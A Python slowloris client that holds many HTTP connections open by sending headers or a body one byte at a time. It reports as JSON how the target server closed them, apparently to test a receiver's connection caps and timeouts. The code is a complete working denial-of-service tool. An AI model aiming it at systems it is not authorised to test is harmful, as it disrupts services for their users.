#!/usr/bin/env python3
"""A slowloris client: opens many connections to an HTTP receiver and sends each request a byte at
a time, never finishing it. Reports, as JSON, how the server treated the connections.

usage: slowloris.py HOST PORT --source ADDR --conns N --seconds S [--body] [--key KEY] --out FILE

--body sends complete headers (with the key, so they pass the checks) and then trickles the body
instead of the headers. Each connection records when the server closed it (seconds after it was
opened); "refused" are those closed within a second of opening (a connection cap).
"""
import argparse
import json
import select
import socket
import time


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("host")
    ap.add_argument("port", type=int)
    ap.add_argument("--source", default="127.0.0.2")
    ap.add_argument("--conns", type=int, default=40)
    ap.add_argument("--seconds", type=float, default=6)
    ap.add_argument("--interval", type=float, default=0.5)
    ap.add_argument("--body", action="store_true")
    ap.add_argument("--key", default="")
    ap.add_argument("--out", required=True)
    a = ap.parse_args()

    if a.body:
        head = ("POST / HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                "X-Amz-Firehose-Request-Id: slow\r\nX-Amz-Firehose-Access-Key: %s\r\n"
                "Content-Length: 100000\r\n\r\n" % a.key).encode()
        trickle = b"{" + b" " * 100000
    else:
        head = b""
        trickle = b"POST / HTTP/1.1\r\nHost: x\r\nX-Padding: " + b"a" * 100000
    conns = []
    for _ in range(a.conns):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.bind((a.source, 0))
        try:
            s.connect((a.host, a.port))
            if head:
                s.sendall(head)
        except OSError:
            s.close()
            conns.append({"sock": None, "opened": time.monotonic(), "closed": 0.0})
            continue
        s.setblocking(False)
        conns.append({"sock": s, "opened": time.monotonic(), "closed": None, "pos": 0})

    def poll_closed():
        live = [c for c in conns if c["closed"] is None]
        if not live:
            return
        readable, _, _ = select.select([c["sock"] for c in live], [], [], 0)
        for c in live:
            if c["sock"] in readable:
                try:
                    data = c["sock"].recv(65536)
                except OSError:
                    data = b""
                if not data:
                    c["closed"] = time.monotonic() - c["opened"]

    time.sleep(0.3)  # time for a server to close connections over its caps
    poll_closed()
    end = time.monotonic() + a.seconds
    while time.monotonic() < end:
        poll_closed()
        for c in conns:
            if c["closed"] is None:
                try:
                    c["sock"].send(trickle[c["pos"]:c["pos"] + 1])
                    c["pos"] += 1
                except OSError:
                    c["closed"] = time.monotonic() - c["opened"]
        time.sleep(a.interval)
    poll_closed()
    closed = [c["closed"] for c in conns if c["closed"] is not None]
    report = {
        "conns": a.conns,
        "refused": sum(1 for t in closed if t < 1),
        "closed_after": sorted(round(t, 2) for t in closed if t >= 1),
        "open_at_end": sum(1 for c in conns if c["closed"] is None),
    }
    for c in conns:
        if c["sock"] is not None:
            c["sock"].close()
    with open(a.out, "w") as f:
        json.dump(report, f)


if __name__ == "__main__":
    main()
